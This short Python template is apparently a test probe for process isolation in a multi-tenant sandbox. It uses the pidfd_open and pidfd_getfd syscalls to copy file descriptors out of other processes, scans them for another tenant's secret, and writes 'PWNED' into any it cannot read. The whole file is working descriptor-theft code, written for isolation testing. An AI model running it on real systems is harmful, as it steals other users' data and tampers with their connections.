# family: processes
# kind: value
# machine: x86_64
# tries: pidfd_getfd: copies of the descriptors that the node and the zygote have open
# success looks like: TENANT-B-SECRET, or PWNED on the node's connections
def job(plugin):
  @LIBC@
  wanted = b'TENANT-B-' + b'SECRET'
  taken, found = 0, []
  for pid in range(1, max(os.getpid(), 500) + 60):
    if pid == os.getpid():
      continue
    handle = call(434, pid, 0)
    if handle < 0:
      continue
    for number in range(0, 40):
      copy = call(438, handle, number, 0)
      if copy < 0:
        continue
      taken = taken + 1
      try:
        data = os.pread(copy, 4194304, 0)
        at = data.find(wanted)
        if at >= 0:
          found.append(data[at:at + 30])
      except OSError:
        try:
          os.write(copy, b'PWNED')
        except OSError:
          pass
      os.close(copy)
    os.close(handle)
  return [taken, found]
